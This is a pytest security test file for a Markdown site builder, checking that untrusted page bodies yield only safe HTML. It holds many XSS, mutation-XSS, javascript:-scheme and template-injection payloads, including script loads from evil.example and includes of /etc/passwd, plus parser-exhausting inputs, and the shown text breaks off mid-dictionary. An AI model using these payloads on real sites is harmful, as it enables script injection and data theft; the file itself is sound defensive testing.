"""CONTRACT, chapter Body, and of Fields that text is plain: what strangers write, and what becomes of it.

Everything goes through the command line, and the pages are read as a browser reads them: by Python's parser
one by one, and all at once by Chromium's own. Each payload is tried in each place that Markdown has.
"""

import json
import re
import subprocess
import sys
import textwrap
from collections import Counter
from collections.abc import Callable, Iterable, Iterator, Mapping
from functools import cache
from html.parser import HTMLParser
from itertools import islice
from pathlib import Path
from typing import TypeVar
from urllib.parse import unquote, urlsplit
from xml.parsers import expat

import pytest
from playwright.sync_api import Browser

from conftest import made_once
from contract import SOURCES, build, check, every_key, quoted, shown, topic, write
from site_reading import collapsed, document

pytestmark = pytest.mark.usefixtures("untraced")


BODY_ELEMENTS = frozenset(
    [
        *("a", "abbr", "b", "blockquote", "br", "caption", "cite", "code", "dd", "del", "div", "dl", "dt"),
        *("em", "figcaption", "figure", "h1", "h2", "h3", "h4", "h5", "h6", "hr", "i", "img", "ins", "kbd"),
        *("li", "mark", "nav", "ol", "p", "pre", "q", "s", "samp", "section", "small", "span", "strong"),
        *("sub", "sup", "table", "tbody", "td", "tfoot", "th", "thead", "tr", "u", "ul"),
    ]
)
"""What Markdown may become; CONTRACT forbids the others by kind."""

FORBIDDEN = frozenset(
    [
        *("script", "style", "svg", "math", "form", "input", "button", "select", "textarea", "option"),
        *("iframe", "frame", "frameset", "object", "embed", "applet", "audio", "video", "source", "track"),
        *("picture", "canvas", "link", "meta", "base", "template", "noscript", "portal", "dialog", "slot"),
    ]
)

ADDRESSES = {"href", "src", "srcset", "action", "formaction", "data", "poster", "cite", "background", "ping"}

CANARY = "evil"
"""Stands in every id, class, name and handler that a payload tries to bring."""

ELSEWHERE = "words-of-another-file"
"""Stands in files that a body may ask for."""


# Reading pages


class Reading(HTMLParser):
    """A page: its elements and their attributes, and the text outside of its head."""

    def __init__(self, html: str) -> None:
        super().__init__(convert_charrefs=True)
        self.elements: list[tuple[str, dict[str, str]]] = []
        self.strange: list[str] = []
        self._text: list[str] = []
        self._inside = Counter[str]()
        self.feed(html)
        self.close()
        self.text = "".join(self._text)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        """Note the element; an attribute twice is the parser's to drop, and a fault of ours."""
        if len({name for name, _ in attrs}) < len(attrs):
            self.strange.append(f"an attribute twice in <{tag}>")
        self.elements.append((tag, {name: value or "" for name, value in attrs}))
        self._inside[tag] += 1

    def handle_endtag(self, tag: str) -> None:
        """Note the end."""
        self._inside[tag] -= 1

    def handle_data(self, data: str) -> None:
        """Take what a reader sees."""
        if not any(self._inside[tag] > 0 for tag in ("head", "script", "style")):
            self._text.append(data)

    def handle_comment(self, data: str) -> None:
        """Note a comment: the theme has none."""
        self.strange.append(f"<!--{data}")

    def handle_pi(self, data: str) -> None:
        """Note a processing instruction."""
        self.strange.append(f"<?{data}")

    def unknown_decl(self, data: str) -> None:
        """Note a CDATA section or the like."""
        self.strange.append(f"<![{data}")


Elements = list[tuple[str, dict[str, str]]]


def faults(elements: Elements, plain: Elements) -> Iterator[str]:
    """Yield what *elements* of a page have that CONTRACT forbids; *plain* are those with a harmless body."""
    count = Counter(tag for tag, _ in elements)
    usual = Counter(tag for tag, _ in plain)
    for tag in count:
        if tag in FORBIDDEN and count[tag] != usual[tag]:
            yield f"{count[tag]} <{tag}> instead of {usual[tag]}"
        elif tag not in BODY_ELEMENTS and count[tag] > usual[tag]:
            yield f"{count[tag]} <{tag}> where {usual[tag]} may be"
    for tag, attributes in elements:
        for name, value in attributes.items():
            yield from _attribute_faults(tag, name, value)
    ids = [attributes["id"] for _, attributes in elements if "id" in attributes]
    if len(set(ids)) < len(ids):
        yield f"an id twice: {Counter(ids).most_common(1)}"


def _attribute_faults(tag: str, name: str, value: str) -> Iterator[str]:
    if name.startswith("on") or name in ("style", "srcdoc", "xmlns", "xlink:href", "nonce"):
        yield f"<{tag} {name}={value!r}>"
    if name in ("id", "class", "name", "for", "role", "target", "slot", "is") and CANARY in value.split():
        yield f"<{tag} {name}={value!r}>"
    if name in ADDRESSES and not _is_safe(value):
        yield f"<{tag} {name}={value!r}>"


def _is_safe(address: str) -> bool:
    """Tell whether *address* is http, https, mailto, on this site or on this page, whoever reads it."""
    # What browsers drop in front, at the end and in between, and how they read a backslash.
    read = re.sub(r"[\t\r\n]", "", address).strip("".join(map(chr, range(0x21)))).replace("\\", "/")
    scheme = re.match(r"([^/?#]*?):", read)
    if scheme:
        return bool(re.match(r"(?i:https?://[^/?#]|mailto:)", read))
    return read.startswith("#") or (read.startswith("/") and not read.startswith("//"))


CHROMIUM_READS = """
pages => {
  const numbers = new Map();
  const numbered = element => {
    const attributes = element.getAttributeNames().map(name => [name, element.getAttribute(name)]);
    const tag = JSON.stringify([element.localName, Object.fromEntries(attributes)]);
    if (!numbers.has(tag)) numbers.set(tag, numbers.size);
    return numbers.get(tag);
  };
  const walk = root => [...root.querySelectorAll("*")].flatMap(element =>
    [numbered(element), ...(element.localName === "template" ? walk(element.content) : [])]);
  const read = pages.map(html => walk(new DOMParser().parseFromString(html, "text/html")));
  return JSON.stringify([[...numbers.keys()].map(tag => JSON.parse(tag)), read]);
}
"""
"""Parses pages as the browser would show them, without showing them; elements alike are told once."""


Name = TypeVar("Name")


def read_by_chromium(browser: Browser, pages: Mapping[Name, str]) -> dict[Name, Elements]:
    """Return the elements of each of *pages* by the rules of HTML 5."""
    tab = browser.new_page(offline=True)
    read: dict[Name, Elements] = {}
    for names in batched(pages, 500):
        tags, found = json.loads(tab.evaluate(CHROMIUM_READS, [pages[name] for name in names]))
        elements = [(tag, attributes) for tag, attributes in tags]
        read |= {
            name: [elements[number] for number in numbers] for name, numbers in zip(names, found, strict=True)
        }
    tab.close()
    return read


def batched(names: Iterable[Name], size: int) -> Iterator[tuple[Name, ...]]:
    """Yield *names*, *size* at a time."""
    rest = iter(names)
    while some := tuple(islice(rest, size)):
        yield some


# What bodies try, and where

HTML = {
    "a script": "<script>alert('evil')</script>",
    "a script across lines": "<script\nsrc=//evil.example/x.js\n></script\n>",
    "a script with a slash": "<script/src=//evil.example/x.js></script>",
    "a script that is not closed": "<script>alert(1)",
    "a script in a script": "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "a handler": '<b id="evil" class="evil" onclick="evil()" style="color:red">b</b>',
    "an image with a handler": "<img/src=x/onerror=evil()//id=evil>",
    "an image that is not closed": '<img src="x" onerror="evil()"',
    "an image with grave accents": "<img src=`x`onerror=evil()>",
    "svg": "<svg/onload=evil()><script>evil()</script><foreignObject><b id=evil></foreignObject></svg>",
    "svg with use": "<svg><use href=data:image/svg+xml,<svg id=evil>></use></svg>",
    "math": "<math><maction actiontype=statusline xlink:href=javascript:evil()>x</maction></math>",
    "mutating math": "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img id=evil&gt;'>",
    "mutating noscript": '<noscript><p title="</noscript><img src=x onerror=evil()>">',
    "mutating svg": "<svg></p><style><a id='</style><img src=1 onerror=evil()>'>",
    "mutating form": "<form><math><mtext></form><form><mglyph><style></math><img src onerror=evil()>",
    "mutating template": "<template><s><template><s><img src=x onerror=evil()>@evil</s></template>",
    "mutating select": "<select><template><style><!--</template><a rel='--></style></select><img onerror=x>'",
    "a style": "<style>@import '//evil.example/x.css';</style>",
    "a link": '<link rel=stylesheet href="//evil.example/x.css">',
    "a refresh": '<meta http-equiv="refresh" content="0;url=//evil.example">',
    "a base": '<base href="//evil.example/">',
    "a form": '<form action="//evil.example"><input name=evil autofocus onfocus=evil()><button></form>',
    "frames": '<iframe srcdoc="<b id=evil>"></iframe><frameset><frame src="//evil.example"></frameset>',
    "an object": '<object data="data:text/html,evil"></object><embed src="//evil.example"><applet>',
    "media": "<video src=//evil.example autoplay onplay=evil()></video><audio controls><source src=x>",
    "details": "<details open ontoggle=evil()><summary>evil</summary></details>",
    "a dialog": "<dialog open id=evil><button popovertarget=evil onclick=evil()>x</button></dialog>",
    "a custom element": "<x-evil id=evil onclick=evil() tabindex=1 autofocus>x</x-evil>",
    "an end of everything": '</p></div></section></main></body></html><b id="evil">',
    "an end of the title": "</title></head><body onload=evil()>",
    "an end of code": "</code></pre></div><b id=evil>",
    "an end of a table": "</td></tr></table><b id=evil>",
    "a comment": "<!-- evil --><b id=evil><!--> <!---> <!-- --!><b id=evil>",
    "a comment that is not closed": "<!-- evil <b id=evil>",
    "a conditional comment": "<!--[if IE]><script>evil()</script><![endif]-->",
    "cdata": "<![CDATA[<b id=evil>]]><b id=evil>",
    "an instruction": "<?xml-stylesheet href='//evil.example'?><?php evil() ?><? evil ?>",
    "a declaration": "<!DOCTYPE evil [<!ENTITY x SYSTEM 'file:///etc/passwd'>]>&x;",
    "entities": "&lt;b id=evil&gt; &amp;lt;b id=evil&amp;gt; &#60;b id=evil&#62; &#x3c;b id=evil&#x3E;",
    "entities without an end": "&ltb id=evil&gt &lt&ltscript&gt&gt &#60b &#x3cb",
    "odd entities": "&#0; &#128; &#xD800; &#x110000; &#99999999999999999999; &#x; &#; &; &nonsense;",
    "escapes": r"\<b id=evil\> \\<b id=evil> \&lt;b\&gt; \`\*\_\{\}\[\]\(\)\#\+\-\.\!\|\~",
    "quotes": """ "' onmouseover="evil()" x='y' ` `` ``` " >""",
    "placeholders": "\\wzxhzdk:0 wzxhzdk:0 klzzwxh:0000 klzzwxh:0 {{{}}} amp lt",
    "markdown in html": "<div markdown=1 id=evil>*a* [b](javascript:evil())</div>",
    "a block with blank lines": "<div id=evil>\n\n<script>\n\nevil()\n\n</script>\n\n</div>",
    "a tag with a NUL's picture": "<scr\u2400ipt>evil()</scr\ufffdipt>",
    "full width": "\uff1cscript\uff1eevil()\uff1c/script\uff1e",
    "other brackets": "\u2039script\u203aevil()\u2329/script\u232a \u00bcscript\u00be",
    "line separators": "a\u2028<b id=evil>\u2029</b>\u0085<b id=evil>",
    "lone marks": "\u200b<\u200bscript>\u200d \ufeff<b id=evil> \u00ad",
}

ATTRIBUTES = {
    "attribute list": "{: #evil .evil onclick=evil() style=x target=_blank }",
    "attribute list without a colon": "{ #evil .evil onclick=evil() }",
    "attribute list of a heading": "{#evil .evil}",
    "old attributes": "{@id=evil} {@onclick=evil()} {@class=evil}",
    "abbreviation": "*[evil]: <b id=evil>",
    "footnote": "[^evil]: <b id=evil> [^evil] ^[evil]",
    "definition": "evil\n: <b id=evil>",
    "admonition": '!!! evil "evil"\n    evil',
    "container": '::: evil {#evil .evil}\nevil\n:::\n=== "evil"',
    "table of contents": "[TOC] [[toc]] [[_TOC_]] ${toc}",
    "wiki link": "[[evil]] [[javascript:evil()|x]] [evil]{.evil #evil}",
    "bare address": "www.evil.example javascript:evil() https://evil.example/?id=evil evil@evil.example",
    "critic": "{--a--} {++b++} {==c==} {>>evil<<}",
    "emoji": ":evil: :smile: ==a== ~~b~~ ^c^ ~d~ ++e++ $evil$ $$evil$$ \\(evil\\)",
    "task": "[ ] a [x] b - [ ] c",
    "front matter again": "---\ntopic_id: evil\nlayout: evil\n---",
}

PROGRAMS = {
    "jinja": "{{ 8191*8191 }} {% if 8191*8191 %}{{ cycler.__init__.__globals__ }}{% endif %} {# gone #}",
    "jinja include": "{% include 'base.html' %}{% import '/etc/passwd' as x %}{{ self }}{{ config }}",
    "jinja raw": "{% raw %}{{ 8191*8191 }}{% endraw %}{% endblock %}{% block main %}",
    "liquid": "{{ site.github | jsonify }} {%- include evil.html -%} {{ page.path }}",
    "handlebars": "{{{ 8191*8191 }}} {{> evil }} {{#each this}}{{/each}} {{!-- gone --}}",
    "angular": "{{ constructor.constructor('evil()')() }} [[8191*8191]] <b ng-app v-html='evil' x-data>",
    "erb": "<%= 8191*8191 %> <% evil %> <%- include('/etc/passwd') %> <%# gone %>",
    "php": "<?= 8191*8191 ?> <?php include '/etc/passwd' ?>",
    "shell": "$(echo x) `echo $((8191*8191))` ${HOME} $HOME ${8191*8191} %HOME% #{8191*8191} ~root",
    "formats": "%(message)s %s %d {0} {name} {} {0.__class__} f'{8191*8191}' \\g<0> \\1 $1 $& ${0}",
    "hugo": "{{< include secret.txt >}} {{% readfile secret.txt %}} {{ readFile `secret.txt` }}",
    "mkdocs": '--8<-- "secret.txt"\n;--8<--\nsecret.txt\n;--8<--',
    "include": "{!secret.txt!} !INCLUDE secret.txt @include(secret.txt) #include <secret.txt>",
    "sphinx": ".. include:: secret.txt\n\n```{include} secret.txt\n```\n\n.. raw:: html\n\n   <b id=evil>",
    "org": "#+INCLUDE: secret.txt\n<<(secret.txt)\n<<[x](secret.txt)\n<!--#include file='secret.txt' -->",
    "an image of a file": "![x](secret.txt) ![x](../secret.txt) ![x](file:///etc/passwd) [x](../secret.txt)",
    "a component": "<Evil {...props} /> <script setup>evil()</script> import Evil from 'evil'",
}

MARKDOWN = {
    "unbalanced": "*a **b ***c _d __e `f ``g [h ![i ]j (k )l <m >n \\",
    "an empty link": "[]() [](<>) ![]() [](#) [x]( ) [x](<> '') [][] [x][]",
    "a link in a link": "[a [b](https://e.example/) c](javascript:evil()) [![d](/e)](javascript:evil())",
    "a title": """[a](/b "c\\"onmouseover=\\"evil()") [a](/b 'd" onclick="evil()') [a](/b (e" id="evil))""",
    "an address with blanks": "[a](/b c) [a](</b c>) [a](/b\tc) [a](<java script:evil()>)",
    "an address with quotes": """[a](/b"onclick="evil()) [a](<https://e.example/"id="evil>) ![a](/b"id=x)""",
    "a definition": '[evil]: javascript:evil() "evil"\n\n[evil] [x][evil] ![x][evil] [EVIL][]',
    "a definition with a quote": """[a]: </b"onclick="evil()> 'c"id="evil'\n\n[a] ![a]""",
    "definitions that compete": "[a]: https://e.example/\n[a]: javascript:evil()\n[A]: data:evil\n\n[a] [A]",
    "an autolink": '<javascript:evil()> <data:text/html,evil> <evil@evil.example> <https://e.example/"id=evil>',
    "mail": '<"id=evil"@e.example> [x](mailto:a@e.example?subject=<b>) <mailto:evil@e.example>',
    "a fence with attributes": "```{.python #evil .evil onclick=evil()}\nx\n```",
    "a fence with words": '```html id="evil" onclick="evil()" hl_lines="1"><b id=evil>\n<b id=evil>\n```',
    "a fence with a class": '~~~ evil"onclick="evil()\nx\n~~~',
    "a fence that is not closed": "```evil\n<b id=evil>",
    "a table": "| <b id=evil> | b |\n|:--|--:|\n| [a](javascript:evil()) | `|` \\| <script> |",
    "a wide table": "|a|\n|-|\n|b|c|d|<b id=evil>|",
    "a list": "- <b id=evil>\n    1. <script>\n\n        ```\n        <b id=evil>\n        ```\n+ x\n* y",
    "headings": "# <b id=evil>\n## evil {#evil}\nevil\n====\n# evil\n# evil\n####### evil\n#evil",
    "names of the page": "# _content\n# content\n# main\n# top\n# __proto__\n# constructor\n# Section 1",
    "other scripts": "# Привет\n# مرحبا بالعالم\n# 👩‍👩‍👧‍👦 e\u0301 \u200f\u200e\n# \u200b\n# ...",
}

PAYLOADS = {**HTML, **ATTRIBUTES, **PROGRAMS, **MARKDOWN}


def _indented(text: str, by: str) -> str:
    return text.replace("\n", f"\n{by}")


def _flat(text: str) -> str:
    return " ".join(text.split("\n"))


PLACES: dict[str, Callable[[str], str]] = {
    "alone": lambda text: text,
    "in a line": lambda text: f"before {text} behind",
    "item": lambda text: f"- a\n- {_indented(text, '    ')}\n- b",
    "number": lambda text: f"1. a\n\n    {_indented(text, '    ')}\n\n2. b",
    "deep item": lambda text: f"- a\n    - b\n        - {_indented(text, '            ')}",
    "quote": lambda text: f"> {_indented(text, '> ')}",
    "item in quote": lambda text: f"> - a\n> - {_indented(text, '>     ')}",
    "quote in item": lambda text: f"- > {_indented(text, '  > ')}",
    "note": lambda text: f"> [!WARNING]\n> {_indented(text, '> ')}",
    "term": lambda text: f"{_flat(text)}\n: {_indented(text, '  ')}",
    "footnote": lambda text: f"[^a] [^{_flat(text)}]\n\n[^a]: {_indented(text, '    ')}",
    "caption": lambda text: f'![{_flat(text)}](/y.png "{_flat(text)}")',
    "tab": lambda text: f'~~~ python tab="{_flat(text)}"\nx\n~~~',
    "heading": lambda text: f"### {_flat(text)} ###",
    "underlined": lambda text: f"{_flat(text)}\n---",
    "cell": lambda text: f"| a | {_flat(text)} |\n|---|---|\n| {_flat(text)} | `{_flat(text)}` |",
    "emphasis": lambda text: f"*a **{_flat(text)}** b* __{_flat(text)}__",
    "code": lambda text: f"`{_flat(text)}` ``` {_flat(text)} ```",
    "fence": lambda text: f"```html\n{text}\n```",
    "tildes": lambda text: f"~~~php\n{text}\n~~~",
    "info": lambda text: f"```{_flat(text)}\nx\n```",
    "info of tildes": lambda text: f"~~~ python {_flat(text)}\nx\n~~~",
    "indented": lambda text: f"a\n\n    {_indented(text, '    ')}",
    "link text": lambda text: f"[{_flat(text)}](https://e.example/)",
    "link address": lambda text: f"[x]({_flat(text)})",
    "link address in angles": lambda text: f"[x](<{_flat(text)}>)",
    "link title": lambda text: f'[x](/y "{_flat(text)}")',
    "link title in quotes": lambda text: f"[x](/y '{_flat(text)}')",
    "image alt": lambda text: f"![{_flat(text)}](/y.png)",
    "image address": lambda text: f"![x]({_flat(text)})",
    "image title": lambda text: f'![x](/y.png "{_flat(text)}")',
    "image elsewhere": lambda text: f"![{_flat(text)}](https://e.example/y.png '{_flat(text)}')",
    "definition": lambda text: f"[x][y]\n\n[y]: {_flat(text)}",
    "definition title": lambda text: f'[x][y]\n\n[y]: /z "{_flat(text)}"',
    "label": lambda text: f"[x][{_flat(text)}]\n\n[{_flat(text)}]: /z",
    "autolink": lambda text: f"<https://e.example/{_flat(text)}>",
    "raw tag": lambda text: f'<a href="/x" title="{_flat(text)}">x</a>',
}

SCHEMES = [
    *("javascript:evil()", "JAVASCRIPT:evil()", "jAvAsCrIpT&colon;evil()", "javascript&#x3a;evil()"),
    *(
        "&#106avascript:evil()",
        "&#x6A;avascript:evil()",
        "&#0000106;avascript:evil()",
        "java&#x09;script:evil()",
    ),
    *("java&NewLine;script:evil()", "java%0ascript:evil()", "%6aavascript:evil()", "&#14;javascript:evil()"),
    *(
        "&nbsp;javascript:evil()",
        "\u3000javascript:evil()",
        "\u2028javascript:evil()",
        "\ufeffjavascript:evil()",
    ),
    *("\u00adjavascript:evil()", "java\u200bscript:evil()", "java\\script:evil()", "javascript\\:evil()"),
    *("javascript:/*--></title>*/evil()", "javascript://e.example/%0aevil()", "javascript:\\u0065vil()"),
    *("\uff4aavascript:evil()", "javascript\uff1aevil()", "\ufb01le:///etc/passwd", "JAVA\u017fCRIPT:evil()"),
    *("vbscript:evil()", "livescript:evil()", "mocha:evil()", "data:text/html,<b id=evil>", "data:,evil"),
    *("data:image/png;base64,AAAA", "data:image/svg+xml,%3Csvg%3E", "DATA&colon;text/html,evil", "blob:evil"),
    *(
        "file:///etc/passwd",
        "file:secret.txt",
        "ftp://evil.example/",
        "gopher://evil.example/",
        "ws://evil.example",
    ),
    *(
        "about:blank",
        "chrome://settings",
        "ms-settings:x",
        "intent://evil#Intent;end",
        "tel:1",
        "sms:1",
        "urn:x:y",
    ),
    *("view-source:https://e.example", "jar:https://e.example!/x", "filesystem:https://e.example/x", "cid:x"),
    *(
        "//evil.example/x",
        "///evil.example",
        "////evil.example",
        "/\\evil.example",
        "\\\\evil.example",
        "\\/evil.example",
    ),
    *(
        "/&#9;/evil.example",
        "/&#92;evil.example",
        "&#47;&#47;evil.example",
        "/&Tab;/evil.example",
        "/\u2028/evil.example",
    ),
    *(
        "https:evil.example",
        "https:/evil.example",
        "https:///evil.example",
        "http:\\\\evil.example",
        "https:",
        "http://",
    ),
    *("secret.txt", "../secret.txt", "./x", "?x=evil", "evil:evil", "1:evil", "-:evil", ":evil", "x/y:z", ""),
]
"""Addresses that a link or image must lose, or keep without harm."""

KEPT = {
    "http": "http://e.example/",
    "https with everything": "https://e.example:8443/a/b;c?d=e&f=g%20h#i",
    "capitals": "HTTPS://E.example/A",
    "a name in another script": "https://bücher.example/straße?ß#ü",
    "punycode": "https://xn--bcher-kva.example/",
    "an address of version 6": "https://[2001:db8::1]:8080/x",
    "mail": "mailto:a@e.example?subject=x",
    "a fragment of the site": "https://e.example/#a-b_c.d~e!$&'*+,;=:@/?",
    "a long one": f"https://e.example/{'x' * 1_500}",
}


def _body(text: str, number: str) -> str:
    return topic(id=number, name=f"Topic {number}", body=f"{text}\n")


@pytest.fixture(scope="module")
def bodies() -> dict[str, str]:
    """Every payload in every place, and every address in every form, by an id of its own."""
    texts = {
        f"{place} {payload}": PLACES[place](PAYLOADS[payload]) for place in PLACES for payload in PAYLOADS
    }
    for number, address in enumerate(SCHEMES):
        for form, written in ADDRESS_FORMS.items():
            texts[f"address {number} {form}"] = written(address)
    return texts


ADDRESS_FORMS: dict[str, Callable[[str], str]] = {
    "link": lambda url: f"[text]({url})",
    "link in angles": lambda url: f"> - [text](<{url}>)",
    "definition": lambda url: f"[text][r]\n\n[r]: {url}",
    "definition in angles": lambda url: f"| [r] |\n|---|\n| ![r] |\n\n[r]: <{url}>",
    "image": lambda url: f"# ![text]({url})",
    "image link": lambda url: f"[![text]({url})]({url} 'title')",
    "autolink": lambda url: f"text <{url}>",
    "tag": lambda url: f'text <a href="{url}">text</a><img src="{url}"><q cite={url}></q>',
}


def _slug(name: str) -> str:
    return re.sub(r"[^a-z0-9]+", "-", name.lower()).strip("-")


@pytest.fixture(scope="module")
def pages(bodies: dict[str, str], tmp_path_factory: pytest.TempPathFactory) -> dict[str, str]:
    """The page of each of `bodies` on a site at /kb, and one of a harmless body under "plain"."""
    texts = {_slug(name): text for name, text in bodies.items()} | {"plain": "## A heading\n\nPlain text."}
    assert len(texts) == len(bodies) + 1, "two cases have one slug"

    def make(folder: Path) -> None:
        content = folder / "content"
        write(content, {f"topics/{slug}.md": _body(text, slug) for slug, text in texts.items()})
        for place in (content, content / "topics", folder):
            write(place, {"secret.txt": ELSEWHERE})
        built = build(content, folder / "site", "--base-url", "https://kb.example/kb")
        assert built.code == 0, built.stderr[:2_000]

    folder = made_once(tmp_path_factory, "bodies", make)
    return {slug: (folder / f"site/design/topics/{slug}.html").read_text(encoding="utf-8") for slug in texts}


@pytest.mark.parametrize("place", [*PLACES, "address"])
def test_a_body_brings_nothing_but_text_and_structure(
    pages: dict[str, str], bodies: dict[str, str], place: str
) -> None:
    """Each payload in one place: no element, attribute, id, class or address that CONTRACT forbids."""
    plain = Reading(pages["plain"]).elements
    found = {}
    for name in bodies:
        if name.startswith(f"{place} "):
            reading = Reading(pages[_slug(name)])
            if wrong := [*faults(reading.elements, plain), *reading.strange]:
                found[name] = wrong
    assert not found


def test_chromium_finds_nothing_in_a_body_that_our_parser_did_not(
    pages: dict[str, str], browser: Browser
) -> None:
    """The same by the rules of HTML 5, with all that a browser mends."""
    read = read_by_chromium(browser, pages)
    wrong = {name: list(faults(elements, read["plain"])) for name, elements in read.items()}
    assert not {name: each for name, each in wrong.items() if each}


def test_no_body_is_a_program(pages: dict[str, str]) -> None:
    """Nothing is computed, and no file is read, whatever language of templates asks for it."""
    for name, html in pages.items():
        assert "67092481" not in html, name
        assert ELSEWHERE not in html, name
        assert "root:x:" not in html, name
        assert "builtins" not in html, name


@pytest.mark.parametrize(
    "text",
    [
        "{{ 8191*8191 }}",
        "{% include 'base.html' %}",
        "{{ cycler.x }}",
        "{{{ x }}}",
        "<%= 8191*8191 %>",
        "${8191*8191}",
        "#{8191*8191}",
        "{%- raw -%}",
        "{: #evil .evil }",
        "{!secret.txt!}",
        "{{< include secret.txt >}}",
        "%(message)s %s {0} {}",
        "[[8191*8191]]",
        "@include(secret.txt)",
    ],
)
def test_template_syntax_in_a_body_stays_text(tmp_path: Path, text: str) -> None:
    """Literally, in a paragraph as in code; `*` alone is Markdown's."""
    files = {"topics/a.md": topic(body=f"before {text} after\n\n`{text}`\n\n```\n{text}\n```\n")}
    assert build(write(tmp_path / "content", files), tmp_path / "site").code == 0
    page = Reading((tmp_path / "site/design/topics/a.html").read_text(encoding="utf-8"))
    assert page.text.count(text) == 3


@pytest.mark.parametrize("base", ["", "https://kb.example", "https://kb.example/kb"])
def test_links_and_images_keep_what_they_may(tmp_path: Path, base: str) -> None:
    """http, https and mailto to the letter; paths of the site below its base path."""
    lines = [f"[text {number}]({url})" for number, url in enumerate(KEPT.values())]
    site_paths = ["/", "/x", "/x/y.z?a=b#c", "/media/a.png", "/%41%20b", "/x(y)"]
    lines += [f"[site {number}](<{path}>)" for number, path in enumerate(site_paths)]
    lines += ["![image](/media/a.png)", "[ref]\n\n[ref]: /from/definition"]
    files = {"topics/a.md": topic(body="\n\n".join(lines))}
    options = [f"--base-url={base}"] if base else []
    assert build(write(tmp_path / "content", files), tmp_path / "site", *options).code == 0
    page = Reading((tmp_path / "site/design/topics/a.html").read_text(encoding="utf-8"))
    links = {attributes.get("href") for _, attributes in page.elements}
    images = {attributes.get("src") for tag, attributes in page.elements if tag == "img"}
    base_path = urlsplit(base).path
    assert {unquote(link or "") for link in links} >= {unquote(url) for url in KEPT.values()}
    assert {unquote(link or "") for link in links} >= {
        unquote(f"{base_path}{path}") for path in [*site_paths, "/from/definition"]
    }
    assert images >= {f"{base_path}/media/a.png"}


def test_bodies_of_registry_entries_pages_and_posts_are_no_different(tmp_path: Path) -> None:
    """Wherever a body stands: a guideline's profile, a page of the content's own, a post."""
    text = "\n\n".join(PLACES["in a line"](payload) for payload in HTML.values() if "\n\n" not in payload)
    registry = "---\nguideline_id: g\nguideline_title: G\nguideline_url: https://g.example/\n---\n"
    for name, body in (("plain", "Plain."), ("wild", text)):
        files = {
            "topics/a.md": topic("guidelines:", "  - guideline_id: g"),
            "guidelines/g.md": f"{registry}{body}\n",
            "pages/about.md": f"---\ntitle: About\n---\n{body}\n",
            "posts/2026-01-31-news.md": f"---\ntitle: News\ndate: 2026-01-31\n---\n{body}\n",
        }
        built = build(write(tmp_path / name, files), tmp_path / f"{name}-site")
        assert built.code == 0, built.stderr
    sites = [tmp_path / "plain-site", tmp_path / "wild-site"]
    plain, wild = ({str(path.relative_to(site)): path for path in site.rglob("*.html")} for site in sites)
    assert set(plain) == set(wild)
    for name, path in wild.items():
        reading = Reading(path.read_text(encoding="utf-8"))
        usual = Reading(plain[name].read_text(encoding="utf-8")).elements
        assert not [*faults(reading.elements, usual), *reading.strange], name


# Costly bodies


def _deep_list(depth: int) -> str:
    return "".join(f"{'    ' * level}- a\n" for level in range(depth))


MANY_LANGUAGES = "<%= {{ \"a\" // /* # -- ${b} 'c' : d = [1] => @e |\n"

COSTLY: dict[str, str] = {
    "open brackets": "[" * 190_000,
    "open brackets in lines": "a [b\n" * 38_000,
    "open images": "![" * 95_000,
    "brackets in brackets": "[" * 95_000 + "]" * 95_000,
    "links in links": "[a](" * 47_000,
    "links in angles": "[a](<" * 38_000,
    "links with half a title": '[a](b "' * 27_000,
    "links with blanks": f"[a]({' ' * 190_000}b)",
    "many links": "[a](b) " * 27_000,
    "many definitions": "".join(f"[a{n}]: /b\n" for n in range(14_000)),
    "many definitions and uses": "".join(f"[a{n}]: /b\n\n[a{n}]\n\n" for n in range(7_000)),
    "one definition, many uses": "[a]: /b\n\n" + "[a] " * 22_000,
    "labels without a definition": "[a][b] " * 27_000,
    "half definitions": "[a]:\n" * 38_000,
    "definition with half a title": "[a]: b 'c\n" * 19_000,
    "emphases that open": "*a " * 60_000,
    "emphases that close": "a* " * 60_000,
    "emphases that change": "*a _b " * 30_000,
    "strong emphases": "**a **" * 30_000,
    "asterisks": "*" * 190_000,
    "asterisks around": "*" * 90_000 + "a" + "*" * 90_000,
    "underscores": "_a" * 90_000,
    "underscores and blanks": "_ a _" * 38_000,
    "emphases one in another": "*a **b " * 145 + "c** d*" * 145,
    "backticks that grow": "".join("`" * n + "a" for n in range(1, 600)),
    "backticks of two kinds": "`a``b" * 38_000,
    "backticks": "`" * 190_000,
    "spans of code": "`a` " * 47_000,
    "escapes": "\\*" * 95_000,
    "backslashes": "\\" * 190_000,
    "open tags": "<a " * 60_000,
    "open tags without blanks": "<a<" * 60_000,
    "open comments": "<!-- " * 38_000,
    "open instructions": "<? " * 60_000,
    "open declarations": "<!A " * 47_000,
    "open cdata": "<![CDATA[" * 21_000,
    "quotes in tags": "<a b='" * 30_000,
    "tags": "<b>a</b>" * 23_000,
    "angles": "<" * 190_000,
    "angles the other way": ">" * 190_000,
    "mail": "<a@" * 60_000,
    "addresses": "<https://" * 21_000,
    "ampersands": "&" * 190_000,
    "entities": "&amp;" * 38_000,
    "numbers of characters": "&#65;" * 38_000,
    "quotations": "> " * 95_000,
    "quotations in lines": "".join(f"{'>' * n} a\n" for n in range(1, 600)),
    "quotations of quotations": f"{'> ' * 29}a\n" * 3_000,
    "lists in a line": "- " * 95_000,
    "lists by indentation": _deep_list(300),
    "lists as deep as may be": _deep_list(25) * 40,
    "items": "- a\n" * 24_000,
    "items with blank lines": "- a\n\n" * 12_000,
    "items of two kinds": "- a\n1. b\n" * 21_000,
    "numbers": "1. a\n" * 19_000,
    "items with paragraphs": "- a\n\n    b\n\n" * 8_000,
    "items with quotations": "- > a\n" * 12_000,
    "quotations with items": "> - a\n" * 12_000,
    "headings": "# a\n" * 47_000,
    "headings of one name": "# a\n\n" * 12_000,
    "definitions of terms": "a\n: b\n" * 33_000,
    "definitions of one term": "a\n" + ": b\n" * 47_000,
    "definitions apart": "a\n\n: b\n\n" * 21_000,
    "terms of one definition": "a\n" * 94_000 + ": b",
    "definitions by indentation": "".join(f"{'    ' * n}a\n{'    ' * n}: b\n\n" for n in range(200)),
    "notes": "> [!NOTE]\n> a\n\n" * 11_000,
    "notes in notes": "".join(f"{'> ' * n}[!NOTE]\n" for n in range(1, 25)) * 200,
    "footnotes": "".join(f"[^{n}]: b\n" for n in range(15_000)),
    "footnotes and uses": "".join(f"[^{n}]: b\n\n[^{n}]\n\n" for n in range(7_000)),
